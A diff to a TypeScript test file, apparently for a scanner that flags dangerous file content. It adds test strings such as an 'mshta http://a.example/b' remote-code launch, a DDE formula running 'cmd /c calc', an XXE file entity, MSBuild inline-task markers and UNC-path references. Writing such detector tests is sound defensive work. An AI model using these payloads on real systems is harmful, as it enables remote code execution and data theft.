@@ -169,9 +169,25 @@ const CASES: Readonly<Record<string, Create>> = {
     ...['<Styles>', '<Style ss:ID="a">', '<Style ss:ID="a" ', '<style '],
     ...['onload="a()"', 'href="ms-msdt:/id"', "src='\\\\files.example\\a'", 'a()', '>', '/>', ' ', '\n'],
   ]),
+  'inline code': textOf([
+    ...[
+      '<Project>',
+      'CodeTaskFactory',
+      'VirtualAlloc(',
+      '<EXEC Command="mshta http://a.example/b">',
+      'implements-prefix',
+    ],
+    ...['<m:script language="C#">', 'urn:schemas-microsoft-com:xslt', ' ', '\n'],
+  ]),
+  'references of XML': textOf([
+    ...['<?xml version="1.0"?>', '<?xml-stylesheet href="\\\\a.example\\b"?>', '<!ENTITY a SYSTEM "file:///a">', '<a>'],
+    ...['Formula="=cmd|&apos;/c calc&apos;!A0"', "Formula='=cmd|a!b'", ' ', '\n'],
+  ]),
   scripts: textOf([
     ...[
       'Set s = ',
+      '<job>',
+      '<m:script src="http://a.example/">',
       'CreateObject("WScript.Shell")',
       's.Run "calc"',
       'iex (',
@@ -200,6 +216,7 @@ const CASES: Readonly<Record<string, Create>> = {
       '<jnlp ',
       '>',
     ],
+    ...['[.ShellClassInfo]\n', 'BEGIN:VCARD\nPHOTO:file://a.example/b\n', '#EXTM3U\n\\\\a.example\\b\n', '[AutoRun]\n'],
     ...['WEB\n1\nhttp://a\n', 'WEB\r\n1\r\nhttp://a', '<?xml?>', 'REGEDIT4\n', '\n', 'a'],
   ]),
   RTF: textOf([
